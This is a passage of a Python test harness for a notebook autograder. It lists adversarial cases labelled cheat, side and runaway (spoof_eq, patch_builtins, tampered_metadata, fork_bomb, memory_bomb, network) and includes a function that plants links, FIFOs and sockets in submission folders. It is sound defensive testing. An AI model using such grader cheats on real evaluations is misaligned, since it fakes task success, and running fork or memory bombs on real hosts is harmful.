    Case("patch_torch", patch_torch, 0.0, "cheat"),
    Case("patch_builtins", patch_builtins, 0.0, "cheat"),
    Case("patch_ipython", patch_ipython, 0.0, "cheat"),
    Case("patch_course_modules", patch_course_modules, 0.0, "cheat"),
    Case("call_reference", call_reference, 0.0, "cheat"),
    Case("spoof_eq", spoof_eq, 0.0, "cheat"),
    Case("read_files", read_files, FULL_MARKS, "side"),
    Case("write_files", write_files, FULL_MARKS, "side"),
    Case("network", network, FULL_MARKS, "side"),
    Case("leave_process", leave_process, FULL_MARKS, "side"),
    Case("huge_output", huge_output, FULL_MARKS, "side"),
    Case("os_exit", os_exit, None, "runaway"),  # record what it gets
    Case("endless_loop", endless_loop, FULL_MARKS, "runaway"),
    Case("memory_bomb", memory_bomb, FULL_MARKS, "runaway"),
    # the grader's side: its launcher, what a folder ships, its waits, memory and reports
    Case("ship_launcher", ship_launcher, 0.0, "cheat"),
    Case("links", links, FULL_MARKS, "side"),
    Case("forged_notes", forged_notes, FULL_MARKS, "side"),
    Case("html_js", html_js, FULL_MARKS, "side"),
    Case("tampered_metadata", tampered_metadata, 0.0, "cheat"),
    Case("iopub_flood", iopub_flood, None, "runaway"),  # its sigmoid's tests may fail; record the rest
    Case("metadata_flood", metadata_flood, FULL_MARKS, "side"),
    Case("node_bomb", node_bomb, 0.0, "cheat"),
    Case("forked_memory", forked_memory, FULL_MARKS, "runaway"),
    Case("fork_bomb", fork_bomb, FULL_MARKS, "runaway"),
    Case("ignore_interrupt", ignore_interrupt, FULL_MARKS, "runaway"),
    Case("slow_deaths", slow_deaths, FULL_MARKS, "runaway"),
    Case("honest", honest, FULL_MARKS, "honest"),
]


def submit(submissions, student, built):
    """Write a case's notebook (and for a `Submission`, its files, links and special files) into
    SUBMISSIONS/<student>/01_linear/."""
    built = built if isinstance(built, Submission) else Submission(built)
    folder = Path(submissions) / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{ASSIGNMENT}.ipynb"
    nbformat.write(built.notebook, path)
    for name, text in built.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    for name, target in built.links.items():
        if isinstance(target, tuple):  # ("hard", path)
            os.link(target[1], folder / name)
        else:
            os.symlink(target, folder / name)
    for name, kind in built.special.items():
        if kind == "fifo":
            os.mkfifo(folder / name)
        else:
            with socket.socket(socket.AF_UNIX) as s:
                s.bind(str(folder / name))
    return path


def leftover_processes():
    """[(pid, command line)] of the `sleep`s leave_process starts, still running anywhere on the host."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if len(argv) > 1 and argv[0].rsplit(b"/", 1)[-1] == b"sleep" and argv[1].decode() in SLEEPS:
            found.append((int(entry.name), " ".join(a.decode() for a in argv if a)))
    return found


__all__ = ["ASSIGNMENT", "CASES", "FULL_MARKS", "MARKERS", "ROOT", "Case", "Context", "Submission",
           "launcher_marker", "leftover_processes", "outside_file", "solution", "submit", "write_targets"]
